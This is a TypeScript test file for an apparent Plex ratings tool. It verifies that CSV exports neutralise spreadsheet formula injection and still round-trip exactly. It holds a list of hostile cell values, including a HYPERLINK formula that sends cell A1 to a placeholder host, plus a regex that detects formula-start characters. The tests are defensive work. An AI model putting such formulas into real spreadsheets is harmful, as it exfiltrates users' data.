// Every CSV Sagewire writes is safe to open in a spreadsheet (a text cell a spreadsheet would run as a
// formula gets a single quote in front) and reads back to the same values: the cell helper, the ratings
// export with hostile titles (export → import changes nothing), and the dry-run plan CSV.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { neutraliseCell, parseCsv, restoreCell, toCsv } from '../../../src/domain/csv-cell.js';
import { exportRatingsCsv, importRatingsCsv } from '../../../src/engine/tools/csv-ratings.js';
import { runFullPass } from '../../../src/engine/pass/full-pass.js';
import { planCsv } from '../../../src/engine/pass/plan-report.js';
import { fakePlexFor, generateLibrary, seedCache } from './support/library.js';
import { openTestEngine, type TestEngine } from './support/engine.js';

const HOSTILE = ['=HYPERLINK("http://x/?"&A1)', '+1', '-2', '@SUM(A1)', '\tX', '\rX', "'=1+1", "'", "''", "'plain"];
const FORMULA_START = /^[=+\-@\t\r]/;

/** The cells exactly as a spreadsheet would get them (no quote removed). */
const rawCells = (csv: string): string[][] => parse(csv, { relax_column_count: true }) as string[][];

describe('the cell rule', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&A1)', `'=HYPERLINK("http://x/?"&A1)`],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tX', "'\tX"],
    ['\rX', "'\rX"],
    ["'=1", "''=1"],
    ["'", "''"],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j is written as %j and read back', (text, written) => {
    expect(neutraliseCell(text)).toBe(written);
    expect(restoreCell(written)).toBe(text);
  });

  it('numbers stay numbers (a negative one is not prefixed); strings are text', () => {
    const csv = toCsv([
      ['n', 'text'],
      [-1, '-1'],
      [-2.5, '+3'],
      [4.5, '=A1'],
    ]);
    expect(rawCells(csv)).toEqual([
      ['n', 'text'],
      ['-1', "'-1"],
      ['-2.5', "'+3"],
      ['4.5', "'=A1"],
    ]);
  });

  it('round trip toCsv → parseCsv is exact, including quotes, line breaks and edge spaces', () => {
    const texts = [...HOSTILE, ' X ', 'X\t', 'a,b', 'say "hi"', 'two\nlines', 'Ünïcödé ♪', ''];
    const parsed = parseCsv(toCsv([['title', 'n'], ...texts.map((t, i) => [t, i])]));
    expect(parsed.slice(1).map((r) => r[0])).toEqual(texts);
    for (const row of rawCells(toCsv(texts.map((t) => [t])))) expect(row[0]).not.toMatch(FORMULA_START);
  });

  it('every CSV writer goes through the helper (no other module stringifies CSV)', () => {
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name);
        if (statSync(path).isDirectory()) walk(path);
        else if (path.endsWith('.ts')) files.push(path);
      }
    };
    walk('src');
    const writers = files.filter((f) => /from 'csv-stringify/.test(readFileSync(f, 'utf8')));
    expect(writers).toEqual([join('src', 'domain', 'csv-cell.ts')]);
  });
});

describe('ratings export and the plan CSV', () => {
  const engines: TestEngine[] = [];
  afterEach(async () => {
    for (const e of engines.splice(0)) await e.close();
  });

  async function hostileLibrary() {
    const lib = generateLibrary(81, 200);
    for (const [i, item] of lib.items.entries()) item.title = `${HOSTILE[i % HOSTILE.length]}${i % 3 === 0 ? '' : ` ${i}`}`;
    const plex = fakePlexFor(lib, { roundRatings: true });
    const engine = await openTestEngine(plex);
    engines.push(engine);
    seedCache(engine.handle.sqlite, lib);
    return { lib, plex, engine };
  }

  it('export neutralises hostile titles, reads back to the same titles, and export → import changes nothing', async () => {
    const { lib, plex, engine } = await hostileLibrary();
    await runFullPass(engine.deps);
    for (const type of ['tracks', 'albums', 'artists'] as const) {
      const csv = exportRatingsCsv(engine.deps, type);
      const raw = rawCells(csv);
      expect(raw[0]).toEqual(['ratingKey', 'artist', 'album', 'title', 'year', 'rating', 'ownership']);
      for (const row of raw.slice(1)) {
        for (const cell of [row[1], row[2], row[3]]) expect(cell, type).not.toMatch(FORMULA_START);
        if (row[5] !== '') expect(Number.isFinite(Number(row[5])), row[5]).toBe(true); // the rating column is a number
      }
      const titles = parseCsv(csv)
        .slice(1)
        .map((r) => [r[0], r[3]]);
      for (const [key, title] of titles) expect(title).toBe(lib.byKey.get(key)!.title);

      const writes = plex.writeLog.length;
      const same = await importRatingsCsv(engine.deps, csv);
      expect(same.problems, type).toEqual([]);
      expect(same.written, type).toBe(0);
      expect(same.skipped, type).toEqual([]);
      expect(plex.writeLog.length, type).toBe(writes);
    }
  });

  it('the dry-run plan CSV (CLI --csv and the Ratings page download) neutralises names, keeps numbers', async () => {
    const { lib, engine } = await hostileLibrary();
    const { plan } = await runFullPass(engine.deps, { dryRun: true });
    expect(plan.writes.length).toBeGreaterThan(0);
    const csv = planCsv(plan);
    const raw = rawCells(csv);
    expect(raw[0]).toEqual(['ratingKey', 'kind', 'artist', 'album', 'title', 'reason', 'beforePoints', 'afterPoints', 'computedPoints']);
    expect(raw.length).toBe(plan.writes.length + 1);
    for (const row of raw.slice(1)) {
      for (const cell of row.slice(0, 6)) expect(cell).not.toMatch(FORMULA_START);
      for (const cell of row.slice(6)) if (cell !== '') expect(Number.isFinite(Number(cell)), cell).toBe(true);
    }
    for (const row of parseCsv(csv).slice(1)) expect(row[4]).toBe(lib.byKey.get(row[0])!.title);
  });
});
